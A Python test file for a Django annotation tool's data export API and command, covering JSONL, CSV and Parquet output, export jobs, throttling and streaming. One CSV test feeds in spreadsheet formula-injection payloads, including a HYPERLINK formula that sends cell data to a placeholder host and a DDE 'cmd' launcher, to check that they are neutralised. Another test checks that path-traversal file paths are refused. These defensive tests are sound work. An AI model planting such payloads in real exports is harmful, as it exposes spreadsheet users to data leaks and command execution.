"""The files: JSONL that `datasets` loads, CSV that round-trips, Parquet from an export job that pyarrow
reads, safe download names, throttling, and a fixed number of queries whatever the size."""

import csv
import io
import json
import re

import pyarrow.parquet as pq
import pytest
from django.core.cache import cache
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from rest_framework.throttling import ScopedRateThrottle

from exports.jobs import export_job_run
from exports.models import ExportJob
from exports.params import ExportParams
from exports.rows import export_rows, iso_utc
from exports.writers import export_stream, export_write_parquet
from tests.factories import ItemFactory

pytestmark = pytest.mark.django_db
FORMATS = ("trl", "helpsteer2", "rubric_scores", "judgments")


@pytest.fixture(autouse=True)
def export_root(settings, tmp_path):
    settings.EXPORT_ROOT = tmp_path / "exports"
    return settings.EXPORT_ROOT


@pytest.fixture
def admin(client_for, labeled):
    return client_for(labeled.admin)


def jsonl(client, project, **params) -> list[dict]:
    response = client.get(f"/api/v1/projects/{project.id}/export", {**params, "as": "jsonl"})
    return [json.loads(line) for line in b"".join(response.streaming_content).splitlines()]


def test_a_streamed_export_is_an_attachment_with_a_safe_name(admin, labeled):
    response = admin.get(f"/api/v1/projects/{labeled.project.id}/export", {"format": "trl"})
    assert response.streaming
    assert response["Content-Type"] == "application/x-ndjson; charset=utf-8"
    name = re.fullmatch(r'attachment; filename="([^"]+)"', response["Content-Disposition"]).group(1)
    assert re.fullmatch(rf"project-{labeled.project.id}-trl-\d{{8}}T\d{{6}}Z\.jsonl", name)
    assert response["Cache-Control"] == "no-store"
    b"".join(response.streaming_content)


def test_the_trl_export_loads_with_datasets_as_conversational_preference_data(admin, labeled, tmp_path):
    import datasets

    path = tmp_path / "trl.jsonl"
    response = admin.get(f"/api/v1/projects/{labeled.project.id}/export", {"format": "trl"})
    path.write_bytes(b"".join(response.streaming_content))
    dataset = datasets.load_dataset("json", data_files=str(path), split="train", cache_dir=str(tmp_path / "hf"))
    assert dataset.num_rows == 6
    assert {"prompt", "chosen", "rejected", "margin"} <= set(dataset.column_names)
    assert dataset.features["margin"].dtype == "float64"
    row = dataset[0]
    # TRL's conversational preference format: message lists with role and content; one assistant turn.
    for column in ("prompt", "chosen", "rejected"):
        assert all(set(m) == {"role", "content"} for m in row[column])
    assert row["prompt"][-1]["role"] == "user"
    assert [m["role"] for m in row["chosen"]] == ["assistant"] == [m["role"] for m in row["rejected"]]
    assert row["chosen"][0]["content"] == "agree-first A"


def test_every_format_round_trips_through_csv(admin, labeled):
    for fmt in FORMATS:
        expected = jsonl(admin, labeled.project, format=fmt)
        response = admin.get(f"/api/v1/projects/{labeled.project.id}/export", {"format": fmt, "as": "csv"})
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
        assert len(rows) == len(expected), fmt
        for got, want in zip(rows, expected, strict=True):
            for key, value in want.items():
                if value is None:
                    assert got[key] == "", (fmt, key)
                elif isinstance(value, bool):
                    assert got[key] == str(value).lower(), (fmt, key)
                elif isinstance(value, (list, dict)):
                    assert json.loads(got[key]) == value, (fmt, key)
                elif isinstance(value, float):
                    assert float(got[key]) == value, (fmt, key)
                else:
                    assert got[key] == str(value), (fmt, key)


def test_csv_keeps_newlines_and_quotes_inside_cells(admin, labeled):
    from annotator.models import Judgment

    Judgment.objects.filter(pk=labeled.judgments["agree-first"][0].pk).update(rationale='Line one,\n"two"')
    response = admin.get(f"/api/v1/projects/{labeled.project.id}/export", {"format": "judgments", "as": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0]["rationale"] == 'Line one,\n"two"'


@pytest.mark.parametrize("rationale", ['=HYPERLINK("http://x/?"&A2,"a")', "+1+cmd|' /C calc'!A0", "-2+3",
                                       "@SUM(1+1)", "\tleading tab", "\rleading return"])
def test_csv_cells_that_would_start_a_formula_are_neutralised(admin, labeled, rationale):
    from annotator.models import Judgment

    Judgment.objects.filter(pk=labeled.judgments["agree-first"][0].pk).update(rationale=rationale)
    url = f"/api/v1/projects/{labeled.project.id}/export"
    response = admin.get(url, {"format": "judgments", "as": "csv"})
    row = next(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    assert row["rationale"] == "'" + rationale, "a spreadsheet shows the text instead of running it"
    assert row["preference"] == "-2", "numbers are never changed"
    assert jsonl(admin, labeled.project, format="judgments")[0]["rationale"] == rationale, "JSONL keeps the text"


def test_asking_for_parquet_starts_an_export_job(admin, labeled, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks() as callbacks:
        response = admin.get(f"/api/v1/projects/{labeled.project.id}/export", {"format": "trl", "as": "parquet"})
    assert response.status_code == 202
    job = response.json()
    assert job["status"] == "queued" and job["format"] == "trl" and job["download_url"] is None
    assert response["Location"] == job["status_url"]
    assert len(callbacks) == 1, "the task is sent once the job row is committed"


def test_a_parquet_job_writes_a_file_that_pyarrow_reads(admin, labeled, django_capture_on_commit_callbacks,
                                                        tmp_path):
    with django_capture_on_commit_callbacks(execute=False):
        job = admin.post(f"/api/v1/projects/{labeled.project.id}/exports/",
                         {"format": "trl", "include_model_scores": True}, content_type="application/json").json()
    export_job_run(job_id=job["id"])
    status = admin.get(job["status_url"]).json()
    assert status["status"] == "done" and status["row_count"] == 6 and status["download_url"]
    response = admin.get(status["download_url"])
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.apache.parquet"
    assert re.search(rf'filename="project-{labeled.project.id}-trl-\d{{8}}T\d{{6}}Z\.parquet"',
                     response["Content-Disposition"])
    path = tmp_path / "download.parquet"
    path.write_bytes(b"".join(response.streaming_content))
    table = pq.read_table(path)
    assert table.num_rows == 6
    assert table.column_names[:4] == ["prompt", "chosen", "rejected", "margin"]
    assert str(table.schema.field("prompt").type) == "list<element: struct<role: string, content: string>>"
    assert table.to_pylist() == jsonl(admin, labeled.project, format="trl", include_model_scores="true")


def test_every_format_writes_parquet_with_the_same_rows_as_jsonl(admin, labeled, tmp_path):
    for fmt in FORMATS:
        path = tmp_path / f"{fmt}.parquet"
        n = export_write_parquet(project=labeled.project, params=ExportParams(export_format=fmt), path=path)
        rows = pq.read_table(path).to_pylist()
        expected = jsonl(admin, labeled.project, format=fmt)
        assert n == len(rows) == len(expected), fmt
        for got, want in zip(rows, expected, strict=True):
            for key in ("submitted_at", "scored_at"):
                if key in got and got[key] is not None:
                    got[key] = iso_utc(got[key])
            assert got == want, fmt


def test_an_empty_export_is_still_a_readable_parquet_file(labeled, tmp_path):
    path = tmp_path / "empty.parquet"
    params = ExportParams(export_format="judgments", min_judgments=50)
    assert export_write_parquet(project=labeled.project, params=params, path=path) == 0
    table = pq.read_table(path)
    assert table.num_rows == 0 and "judgment_id" in table.column_names


def test_the_same_parquet_request_returns_the_job_already_queued(admin, labeled, django_capture_on_commit_callbacks):
    url = f"/api/v1/projects/{labeled.project.id}/export"
    with django_capture_on_commit_callbacks(execute=False):
        first = admin.get(url, {"format": "judgments", "as": "parquet", "min_judgments": "2"}).json()
        again = admin.get(url, {"format": "judgments", "as": "parquet", "min_judgments": "2"}).json()
        other = admin.get(url, {"format": "judgments", "as": "parquet"}).json()
    assert first["id"] == again["id"] != other["id"]
    assert ExportJob.objects.count() == 2


def test_a_job_that_is_not_done_cannot_be_downloaded(admin, labeled, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=False):
        job = admin.get(f"/api/v1/projects/{labeled.project.id}/export", {"format": "trl", "as": "parquet"}).json()
    response = admin.get(job["status_url"] + "download")
    assert response.status_code == 409
    assert response.json()["status"] == "queued"


def test_a_job_file_outside_the_export_root_is_never_served(admin, labeled, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("not yours")
    job = ExportJob.objects.create(project=labeled.project, requested_by=labeled.admin, export_format="trl",
                                   status="done", file_path=str(secret))
    response = admin.get(f"/api/v1/projects/{labeled.project.id}/exports/{job.id}/download")
    assert response.status_code == 404
    job.file_path = str(tmp_path / "exports" / ".." / "secret.txt")
    job.save()
    assert admin.get(f"/api/v1/projects/{labeled.project.id}/exports/{job.id}/download").status_code == 404


def test_a_failing_job_is_marked_failed_with_a_message(labeled):
    job = ExportJob.objects.create(project=labeled.project, requested_by=labeled.admin, export_format="trl",
                                   params={"format": "trl", "min_judgments": "-5"})
    export_job_run(job_id=job.id)
    job.refresh_from_db()
    assert job.status == "failed" and "min_judgments" in job.error and job.finished_at


def test_running_a_finished_job_again_changes_nothing(labeled):
    job = ExportJob.objects.create(project=labeled.project, requested_by=labeled.admin, export_format="trl",
                                   params={"format": "trl"})
    export_job_run(job_id=job.id)
    job.refresh_from_db()
    done_at = job.finished_at
    export_job_run(job_id=job.id)
    job.refresh_from_db()
    assert job.status == "done" and job.finished_at == done_at


def test_the_job_list_shows_the_projects_jobs_newest_first(admin, labeled, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=False):
        for fmt in ("trl", "judgments"):
            admin.post(f"/api/v1/projects/{labeled.project.id}/exports/", {"format": fmt})
    jobs = admin.get(f"/api/v1/projects/{labeled.project.id}/exports/").json()
    assert [j["format"] for j in jobs] == ["judgments", "trl"]
    assert jobs[0]["requested_by"] == "padmin"


def test_exports_are_throttled_per_user(admin, labeled, monkeypatch):
    monkeypatch.setattr(ScopedRateThrottle, "THROTTLE_RATES", {"export": "2/min", "import": "2/min"})
    cache.clear()
    url = f"/api/v1/projects/{labeled.project.id}/export"
    for _ in range(2):
        b"".join(admin.get(url, {"format": "trl"}).streaming_content)
    response = admin.get(url, {"format": "trl"})
    assert response.status_code == 429
    assert response.json()["error"] == "throttled" and int(response["Retry-After"]) > 0
    assert admin.get(f"/api/v1/projects/{labeled.project.id}/exports/").status_code == 200, "listing is free"
    cache.clear()


def test_the_export_runs_the_same_queries_for_ten_items_or_forty(admin, labeled):
    def queries(fmt):
        with CaptureQueriesContext(connection) as ctx:
            list(export_rows(project=labeled.project, params=ExportParams(export_format=fmt,
                                                                          include_model_scores=True)))
        return len(ctx.captured_queries)

    before = {fmt: queries(fmt) for fmt in FORMATS}
    for i in range(30):
        ItemFactory(project=labeled.project, external_id=f"more-{i}")
    for key in list(labeled.items)[:2]:
        from tests.helpers import make_judgment

        make_judgment(labeled.items[key], labeled.reviewer, preference=1)
    assert {fmt: queries(fmt) for fmt in FORMATS} == before


def test_the_export_command_writes_each_format(labeled, tmp_path):
    for fmt in FORMATS:
        out = tmp_path / f"{fmt}.jsonl"
        err = io.StringIO()
        call_command("export", str(labeled.project.id), "--format", fmt, "-o", str(out), stderr=err)
        lines = out.read_text().splitlines()
        assert f"{len(lines)} rows" in err.getvalue()
        # The API's stream, byte for byte (on PostgreSQL: the lines the database wrote, for judgments and trl).
        assert out.read_bytes() == b"".join(export_stream(project=labeled.project, file_format="jsonl",
                                                          params=ExportParams(export_format=fmt)))
    out = tmp_path / "trl.parquet"
    call_command("export", str(labeled.project.id), "--format", "trl", "--as", "parquet", "-o", str(out),
                 "--tie-policy", "keep", "--min-judgments", "2", stderr=io.StringIO())
    assert pq.read_table(out).num_rows == 6  # 4 decided + 2 kept ties with two judgments each


def test_the_export_command_writes_csv_to_stdout(labeled):
    out = io.StringIO()
    call_command("export", str(labeled.project.id), "--format", "judgments", "--as", "csv",
                 "--rubric-version", str(labeled.other_version.id), stdout=out, stderr=io.StringIO())
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["item_id"] for r in rows] == ["old-rubric"]


def test_the_export_command_names_bad_arguments(labeled):
    from django.core.management import CommandError

    with pytest.raises(CommandError, match="min_agreement"):
        call_command("export", str(labeled.project.id), "--format", "trl", "--min-agreement", "2")
    with pytest.raises(CommandError, match="No project"):
        call_command("export", "999999", "--format", "trl")
    with pytest.raises(CommandError, match="Parquet needs a file"):
        call_command("export", str(labeled.project.id), "--format", "trl", "--as", "parquet")


def test_a_client_that_hangs_up_mid_stream_leaves_no_reader_thread(labeled, monkeypatch):
    import threading

    from exports import rows, writers

    monkeypatch.setattr(rows, "CHUNK_ROWS", 2)
    monkeypatch.setattr(writers, "STREAM_CHUNK_BYTES", 1)
    stream = writers.export_stream(project=labeled.project, params=ExportParams(export_format="judgments"),
                                   file_format="jsonl")
    first = next(stream)
    assert first.count(b"\n") == 1
    assert any(t.name == "export-read-ahead" for t in threading.enumerate())
    stream.close()  # what the WSGI server does when the client goes away
    assert not any(t.name == "export-read-ahead" for t in threading.enumerate())
    assert ExportJob.objects.count() == 0  # the connection is still usable


def test_a_database_error_while_reading_ahead_reaches_the_stream(labeled, monkeypatch):
    from exports import rows

    real = connection.chunked_cursor

    class Failing:
        def __init__(self):
            self.cursor = real()

        def execute(self, *args):
            return self.cursor.execute(*args)

        def fetchmany(self, size):
            raise RuntimeError("the database went away")

        def close(self):
            self.cursor.close()

    monkeypatch.setattr(rows.connection, "chunked_cursor", Failing)
    with pytest.raises(RuntimeError, match="went away"):
        list(rows.export_rows(project=labeled.project, params=ExportParams(export_format="judgments")))
